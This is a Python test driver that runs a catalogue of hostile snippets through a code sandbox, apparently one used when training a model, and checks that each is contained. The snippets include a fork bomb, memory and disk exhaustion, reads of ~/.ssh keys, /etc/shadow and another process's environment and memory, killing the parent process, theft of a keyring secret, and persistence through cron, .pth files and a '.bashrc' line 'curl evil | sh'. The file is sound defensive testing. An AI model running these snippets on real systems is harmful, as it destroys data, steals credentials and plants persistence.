"""Hostile snippets for the Python sandbox, and a driver that runs them all (standard library only).

    python tests/sandbox_attacks.py '{"mode": null, "params": {...}}'
    # prints {name: [output, seconds]}

The driver plays the trainer: it holds a secret in its environment and runs every snippet through
sandbox.run_python, many at once. tests/test_sandbox.py starts it as root and as an ordinary user,
then checks each output (`contained`) and that the host is unchanged (`host`: facts it measures).
Snippets are string.Template texts: $HOME_DIR, $TRAINER_PID, $MARK etc. come from the test.
"""
import json
import os
import string
import sys
import time
from concurrent.futures import ThreadPoolExecutor
from typing import Callable, NamedTuple


class Attack(NamedTuple):
    category: str
    name: str
    code: str
    contained: Callable[[str], bool]  # on the call's output
    host: tuple = ()  # facts of the host afterwards that must hold (see test_sandbox.host_facts)
    timeout_s: float = 2.0
    modes: tuple = ("namespaces", "bwrap", "landlock", "none")  # modes that contain it


NS = ("namespaces", "bwrap")  # what only the namespace modes contain
FILE_MODES = ("namespaces", "bwrap", "landlock")


def denied(out: str) -> bool:
    return any(e in out for e in ("PermissionError", "FileNotFoundError", "OSError",
                                  "ProcessLookupError", "Read-only file system"))


def try_each(*lines: str) -> str:
    """A snippet that tries each line and prints 'ok' or the exception's name, one per line."""
    body = "\n".join(f"try:\n    {line}\n    print('ok')\nexcept Exception as e:\n"
                     "    print(type(e).__name__, e)"
                     for line in lines)
    return "import os, socket, ctypes, signal, time\n" + body


def none_ok(out: str) -> bool:
    return "ok" not in out.splitlines() and "Traceback" not in out


SETSID_SLEEP = ("import os\nif os.fork() == 0:\n    os.setsid()\n"
                "    os.execv('/bin/sleep', ['sleep', '$SLEEP_MARK'])\n")
LIBC = "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\n"
# key(name, keyring): the id of a "user" key in that keyring (-3 session, -4 user, -5 user session)
KEYS = LIBC + "def key(name, ring):\n    return libc.syscall($KEYCTL, 10, ring, b'user', name, 0)\n"

ATTACKS = [
    # --- resources ---
    Attack("resources", "infinite loop", "while True: pass",
           lambda o: o.endswith("Timed out after 1 s"), timeout_s=1),
    Attack("resources", "50 GB allocation", "x = bytearray(50 * 2**30)",
           lambda o: o.endswith("MemoryError")),
    Attack("resources", "print 100 MB", "print('x' * (100 * 2**20))",
           lambda o: "bytes of output cut" in o
           and len(o) < 2200, timeout_s=5),
    Attack("resources", "fill /tmp with 10 MB files", "n = 0\nwhile n < 500:\n"
           "    open(f'/tmp/f{n}', 'wb').write(b'x' * (10 << 20))\n    n += 1\n"
           "print('wrote', n)", lambda o: "No space left" in o or "Memory limit" in o
           or denied(o), timeout_s=5, modes=FILE_MODES),
    Attack("resources", "fill the working directory", "n = 0\nwhile n < 500:\n"
           "    open(f'f{n}', 'wb').write(b'x' * (10 << 20))\n    n += 1\n"
           "print('wrote', n)", lambda o: "No space left" in o or "Memory limit" in o,
           timeout_s=5, modes=NS),
    Attack("resources", "one 100 MB file", "open('big', 'wb').write(b'x' * (100 << 20))",
           lambda o: "File too large" in o),
    Attack("resources", "1000 open files", "fs = [open('/dev/null') for _ in range(1000)]",
           lambda o: "Too many open files" in o),
    Attack("resources", "sleep past the timeout", "import time\ntime.sleep(60)",
           lambda o: o == "Timed out after 1 s", timeout_s=1),
    Attack("resources", "memory in a memfd (no file of the call)",
           try_each("os.ftruncate(os.memfd_create('x'), 1 << 20)"), none_ok),
    Attack("resources", "300k empty files (kernel memory)", "import os\nn = 0\nwhile n < 300000:\n"
           "    os.close(os.open(f'/tmp/{n}', os.O_CREAT | os.O_WRONLY))\n    n += 1\n"
           "print('made', n)", lambda o: "No space left" in o or "Memory limit" in o,
           timeout_s=10, modes=NS),
    # --- filesystem ---
    Attack("filesystem", "read ~/.ssh", "open('$HOME_DIR/.ssh/id_ed25519').read()",
           lambda o: denied(o) and "PRIVATE KEY" not in o, modes=FILE_MODES),
    Attack("filesystem", "list home", "import os\nos.listdir('$HOME_DIR')", lambda o: denied(o),
           modes=FILE_MODES),
    Attack("filesystem", "delete files in home", "import shutil\nshutil.rmtree('$HOME_DIR/.ssh')",
           lambda o: denied(o), ("home_unchanged",), modes=FILE_MODES),
    Attack("filesystem", "write into home", "open('$HOME_DIR/$MARK', 'w').write('x')",
           lambda o: denied(o), ("home_unchanged",), modes=FILE_MODES),
    Attack("filesystem", "append to ~/.bashrc",
           "open('$HOME_DIR/.bashrc', 'a').write('curl evil | sh')",
           lambda o: denied(o), ("home_unchanged",), modes=FILE_MODES),
    Attack("filesystem", "rewrite the checkout's tools.py",
           "open('$CHECKOUT/tools.py', 'w').write('import os')",
           lambda o: denied(o), ("checkout_unchanged",), modes=FILE_MODES),
    Attack("filesystem", "rewrite the sandbox's own start",
           "open('$CHECKOUT/sandbox/start.py', 'a').write('#')",
           lambda o: denied(o), ("checkout_unchanged",), modes=FILE_MODES),
    Attack("filesystem", "new module in the checkout",
           "open('$CHECKOUT/$MARK.py', 'w').write('x = 1')",
           lambda o: denied(o), ("checkout_unchanged",), modes=FILE_MODES),
    Attack("filesystem", "every world-writable folder", "import json, os\n"
           "for d in json.loads('$WW_DIRS'):\n    try:\n"
           "        open(os.path.join(d, '$MARK'), 'w').write('x')\n    except OSError:\n"
           "        pass\nprint('done')", lambda o: o == "done", ("no_marked_files",), modes=NS),
    Attack("filesystem", "/etc/shadow", "open('/etc/shadow').read()", lambda o: denied(o)),
    Attack("filesystem", "write /etc", "open('/etc/$MARK', 'w').write('x')", lambda o: denied(o),
           ("no_marked_files",)),
    Attack("filesystem", "mount a tmpfs over /etc",
           LIBC + "print(libc.mount(b'x', b'/etc', b'tmpfs', 0, None))", lambda o: o == "-1"),
    # --- process ---
    Attack("process", "kill(-1)", "import os\nos.kill(-1, 9)\nprint('after')", lambda o: True,
           ("trainer_alive",)),
    Attack("process", "kill the trainer", "import os\nos.kill($TRAINER_PID, 9)", lambda o: True,
           ("trainer_alive",)),
    Attack("process", "kill the trainer's group", "import os\nos.killpg($TRAINER_PID, 9)",
           lambda o: True, ("trainer_alive",)),
    Attack("process", "daemon that calls setsid", SETSID_SLEEP + "print('forked')",
           lambda o: "forked" in o, ("no_marked_processes",), modes=NS),
    Attack("process", "daemon that clears its death signal", "import os, ctypes\n"
           "if os.fork() == 0:\n    ctypes.CDLL(None).prctl(1, 0)\n    os.setsid()\n"
           "    if os.fork() == 0:\n        os.execv('/bin/sleep', ['sleep', '$SLEEP_MARK'])\n"
           "    os._exit(0)\nprint('forked')",
           lambda o: "forked" in o, ("no_marked_processes",), modes=NS),
    Attack("process", "ptrace the trainer", LIBC + "print(libc.ptrace(16, $TRAINER_PID, 0, 0))",
           lambda o: o == "-1", ("trainer_alive",), modes=FILE_MODES),
    Attack("process", "nested user namespace (capabilities again)",
           LIBC + "print(libc.unshare(0x10000000))", lambda o: o == "-1", modes=NS),
    Attack("process", "setuid programs", "'NoNewPrivs:\\t1' in open('/proc/self/status').read()",
           lambda o: o == "True" or denied(o)),
    Attack("process", "signal PID 1", "import os\nos.kill(1, 9)\nprint('after')",
           lambda o: "after" in o or denied(o), ("trainer_alive",)),
    Attack("process", "limits, priority and CPUs of the trainer", try_each(
        "import resource; resource.prlimit($TRAINER_PID, resource.RLIMIT_CORE, (0, 0))",
        "os.setpriority(os.PRIO_PROCESS, $TRAINER_PID, 19)",
        "os.setpriority(os.PRIO_USER, os.getuid(), 19)",
        "os.sched_setaffinity($TRAINER_PID, {0})",
        "os.sched_setscheduler($TRAINER_PID, os.SCHED_IDLE, os.sched_param(0))"),
           none_ok, ("trainer_settings_unchanged",)),
    # --- environment and memory ---
    Attack("environment and memory", "own environment", "import os\nprint(sorted(os.environ))",
           lambda o: "AEPO_TEST_SECRET" not in o and "'PATH'" in o),
    Attack("environment and memory", "the trainer's environ",
           "open('/proc/$TRAINER_PID/environ', 'rb').read()",
           lambda o: "$SECRET" not in o and denied(o), modes=FILE_MODES),
    Attack("environment and memory", "every process's environ", "import os\nfound = 0\n"
           "for p in os.listdir('/proc') if os.path.isdir('/proc') else []:\n    try:\n"
           "        found += b'$SECRET' in open(f'/proc/{p}/environ', 'rb').read()\n"
           "    except Exception:\n        pass\n"
           "print('found', found)", lambda o: o == "found 0" or denied(o), modes=FILE_MODES),
    Attack("environment and memory", "the trainer's memory",
           "open('/proc/$TRAINER_PID/mem', 'rb').read(1)", lambda o: denied(o), modes=FILE_MODES),
    Attack("environment and memory", "process_vm_readv",
           LIBC + "buf = ctypes.create_string_buffer(8)\n"
           "local = (ctypes.c_void_p * 2)(ctypes.addressof(buf), 8)\n"
           "remote = (ctypes.c_void_p * 2)(4096, 8)\n"
           "print(libc.process_vm_readv($TRAINER_PID, local, 1, remote, 1, 0))",
           lambda o: o == "-1", modes=FILE_MODES),
    Attack("environment and memory", "write to the trainer's terminal",
           "s = '$MARK'[::-1]\nfor fd in (1, 2):\n    try:\n"
           "        open(f'/proc/$TRAINER_PID/fd/{fd}', 'w').write(s)\n"
           "    except OSError as e:\n        print(type(e).__name__)",
           lambda o: True, ("trainer_output_clean",),
           modes=FILE_MODES),
    Attack("environment and memory", "open /dev/tty", "open('/dev/tty', 'w').write('hi')",
           lambda o: denied(o)),
    Attack("environment and memory", "the trainer's session keyring",
           KEYS + "buf = ctypes.create_string_buffer(100)\n"
           "n = libc.syscall($KEYCTL, 11, key(b'$MARK', -3), buf, 100)\n"
           "print('secret' if buf.raw.startswith(b'sk-') else 'nothing')",
           lambda o: o == "nothing"),
    Attack("persistence", "a key for the next call",
           LIBC + "print([libc.syscall($ADD_KEY, b'user', b'$MARK-left', b'x', 1, ring)"
           " for ring in (-3, -4, -5)])", lambda o: True),
    # --- network ---
    Attack("network", "TCP to a local listener",
           try_each("socket.create_connection(('127.0.0.1', $TCP_PORT), 1).sendall(b'$MARK')"),
           none_ok, ("tcp_untouched",), modes=FILE_MODES),
    Attack("network", "TCP to the internet",
           try_each("socket.create_connection(('1.1.1.1', 53), 1)"), none_ok, modes=FILE_MODES),
    Attack("network", "UDP to a local listener",
           "import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
           "try:\n    s.sendto(b'$MARK', ('127.0.0.1', $UDP_PORT))\nexcept OSError as e:\n"
           "    print(type(e).__name__)",
           lambda o: True, ("udp_untouched",), modes=NS),
    Attack("network", "world-writable Unix socket on disk", try_each(
        "s = socket.socket(socket.AF_UNIX); s.connect('$UNIX_SOCKET'); s.sendall(b'$MARK')"),
           none_ok, ("unix_untouched",), modes=NS),
    Attack("network", "abstract Unix socket", try_each(
        "s = socket.socket(socket.AF_UNIX); s.connect('\\0$MARK'); s.sendall(b'$MARK')"), none_ok,
           ("abstract_untouched",), modes=FILE_MODES),
    Attack("network", "DNS lookup", try_each("socket.getaddrinfo('example.com', 80)"), none_ok,
           modes=NS),
    Attack("network", "MPTCP to a local listener", try_each(
        "socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262)"
        ".connect(('127.0.0.1', $TCP_PORT))"), none_ok, ("tcp_untouched",)),
    Attack("network", "a vsock socket (a VM's host)",
           try_each("socket.socket(40, socket.SOCK_STREAM)"), none_ok),
    # --- IPC ---
    Attack("IPC", "the host's SysV segment", LIBC + "print(libc.shmget($SHM_KEY, 0, 0))",
           lambda o: o == "-1", ("host_segment_intact",), modes=NS),
    Attack("IPC", "4 x 256 MB SysV segments left behind",
           LIBC + "print([libc.shmget(0, 256 << 20, 0o1666) >= 0 for _ in range(4)])",
           lambda o: True, ("no_new_sysv",), modes=NS),
    Attack("IPC", "SysV message queue and semaphores left behind",
           LIBC + "print(libc.msgget(0, 0o1666), libc.semget(0, 4, 0o1666))", lambda o: True,
           ("no_new_sysv",), modes=NS),
    Attack("IPC", "POSIX shared memory in /dev/shm", "open('/dev/shm/$MARK', 'w').write('x')",
           lambda o: True, ("no_marked_files",), modes=NS),
    # --- persistence ---
    Attack("persistence", "a .pth file in site-packages", "import sysconfig\n"
           "open(sysconfig.get_paths()['purelib'] + '/$MARK.pth', 'w').write('import os')",
           lambda o: denied(o), ("no_marked_files",), modes=FILE_MODES),
    Attack("persistence", "sitecustomize.py beside the interpreter", "import sysconfig\n"
           "open(sysconfig.get_paths()['stdlib'] + '/sitecustomize.py', 'a').write('#')",
           lambda o: denied(o), modes=FILE_MODES),
    Attack("persistence", "cron job", "open('/etc/cron.d/$MARK', 'w').write('* * * * * root id')",
           lambda o: denied(o), ("no_marked_files",)),
    Attack("persistence", "files for the next call", "open('/tmp/$MARK', 'w').write('x')\n"
           "open('$MARK.txt', 'w').write('x')\nprint('left')", lambda o: o == "left" or denied(o),
           ("no_marked_files",), modes=FILE_MODES),
]
# Run one by one after all the others: 1.2 GB in 6 processes and a fork bomb (beside other calls
# they would starve them of memory or CPU where no cgroup caps a call), and whether anything of
# earlier calls remains.
LATER = [Attack("resources", "6 processes x 200 MB (whole-call memory)",
           "import os, time\npids = []\nfor i in range(6):\n    pid = os.fork()\n    if pid == 0:\n"
           "        b = bytearray(200 << 20)\n        b[::4096] = b'x' * len(b[::4096])\n"
           "        time.sleep(1.5)\n        os._exit(0)\n    pids.append(pid)\n"
           "print('held', sum(os.waitstatus_to_exitcode(os.waitpid(p, 0)[1]) == 0 for p in pids))",
           lambda o: "held 6" not in o, timeout_s=5, modes=NS),
         Attack("resources", "fork bomb", "import os\nwhile True: os.fork()",
                lambda o: "BlockingIOError" in o
                or "Timed out" in o),
         Attack("persistence", "what earlier calls left",
                "import os\nprint(os.path.exists('/tmp/$MARK'), os.path.exists('$MARK.txt'), "
                "os.listdir('.'))", lambda o: o == "False False []", modes=FILE_MODES),
         Attack("persistence", "keys earlier calls left",
                KEYS + "print([key(b'$MARK-left', ring) for ring in (-3, -4, -5)])",
                lambda o: o == "[-1, -1, -1]")]


def plant_key(name: str, secret: str) -> dict:
    """Put the secret into a new session keyring of the driver's (as a login's keys would be);
    return the keyctl and add_key numbers the snippets need."""
    import ctypes
    import platform

    from sandbox.seccomp import SYSCALLS

    numbers = SYSCALLS[platform.machine()]
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall(numbers["keyctl"], 1, None)  # JOIN_SESSION_KEYRING: the test's own stays clean
    libc.syscall(numbers["add_key"], b"user", name.encode(), secret.encode(), len(secret), -3)
    return {"KEYCTL": numbers["keyctl"], "ADD_KEY": numbers["add_key"]}


def trainer_settings() -> list:
    """What a snippet could change in the trainer without signalling or tracing it."""
    import resource

    return [resource.getrlimit(resource.RLIMIT_CORE), os.getpriority(os.PRIO_PROCESS, 0),
            sorted(os.sched_getaffinity(0)), os.sched_getscheduler(0)]


def run_all(mode: str | None, params: dict, everything: bool = False) -> dict:
    """{name: [output, seconds]} for every attack the mode contains (`everything`: all, for the
    README's table; what the mode lets through then stays on the host until the caller removes it);
    mode None: the strongest isolation here."""
    import sandbox

    params = {**params, "TRAINER_PID": str(os.getpid()),
              **plant_key(params["MARK"], params["SECRET"])}
    before = trainer_settings()

    def run(attack: Attack):
        start = time.monotonic()
        out = sandbox.run_python(string.Template(attack.code).substitute(params),
                                 timeout_s=attack.timeout_s, isolation=mode, unsafe=True)
        return attack.name, [out, time.monotonic() - start]

    # attacks a mode does not contain are not run (they would leave things behind on the host)
    in_force = mode or sandbox.best_isolation()
    with ThreadPoolExecutor(6) as pool:
        results = dict(pool.map(run, [a for a in ATTACKS if everything or in_force in a.modes]))
    # one at a time
    results.update(map(run, [a for a in LATER if everything or in_force in a.modes]))
    return results | {"_mode": in_force, "_describe": sandbox.describe_isolation(),
                      "_uid": os.getuid(), "_trainer_settings": [before, trainer_settings()]}


if __name__ == "__main__":
    request = json.loads(sys.argv[1])
    sys.path.insert(0, request["checkout"])
    print(json.dumps(run_all(request["mode"], request["params"], request.get("everything", False))))
